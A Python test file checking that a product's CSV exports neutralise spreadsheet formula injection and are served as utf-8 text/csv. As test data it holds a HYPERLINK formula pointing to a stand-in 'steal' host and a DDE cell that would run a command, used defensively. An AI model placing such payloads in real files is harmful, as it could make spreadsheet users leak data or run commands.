"""Every CSV the product writes is safe to open in a spreadsheet (OWASP's CSV injection rule) and is sent
as one ``text/csv; charset=utf-8``."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from retaguarda.db import transaction
from retaguarda.spreadsheets import CSV_CONTENT_TYPE, neutralise, write_csv
from tenants.tables import Tenant
from tests.platform.work.test_sla_tracking import _policy as sla_policy
from tests.support.work import Floor

FORMULA = '=HYPERLINK("http://x.example/steal","Open")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    (row,) = list(csv.reader(io.StringIO(write_csv([[cell]]))))
    assert row == ["'" + cell]


@pytest.mark.parametrize("cell", ["Pão Quente", "1 234,5", "a=b", 7, -2.5, Decimal("-1.500")])
def test_numbers_and_plain_text_are_written_as_they_are(cell: object) -> None:
    assert neutralise(cell) == cell
    assert next(csv.reader(io.StringIO(write_csv([[cell]])))) == [str(cell)]


async def test_a_client_named_as_a_formula_is_text_in_the_providers_sla_report(floor: Floor) -> None:
    async with transaction():
        await Tenant.update({Tenant.name: FORMULA}).where(Tenant.id == floor.world.client_a.id)
    admin = await floor.world.sign_in("admin")
    await sla_policy(floor, admin)  # tasks under an SLA are what the report counts
    client = await floor.world.sign_in("a_member")
    assert (await floor.submit(client)).status_code == 201
    today = datetime.now(UTC).astimezone(ZoneInfo("America/Sao_Paulo")).date()
    period = {"from": (today - timedelta(days=1)).isoformat(), "to": (today + timedelta(days=1)).isoformat()}
    exported = await admin.get("/api/v1/sla/attainment/csv", params={**period, "group_by": "client"})
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"] == CSV_CONTENT_TYPE
    rows = list(csv.reader(io.StringIO(exported.text)))
    labels = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in labels
    assert not any(label.startswith(("=", "+", "-", "@")) for label in labels)


async def test_the_requirement_export_is_utf8_csv_with_its_numbers_intact(floor: Floor) -> None:
    manager = await floor.world.sign_in("admin")
    exported = await manager.get(f"/api/v1/planning/pools/{floor.pool_id}/requirements.csv")
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"] == CSV_CONTENT_TYPE
    rows = list(csv.reader(io.StringIO(exported.text)))
    gaps = [row[6] for row in rows[1:]]
    assert gaps and all(Decimal(gap) <= 0 or Decimal(gap) >= 0 for gap in gaps)  # numbers, never 'text
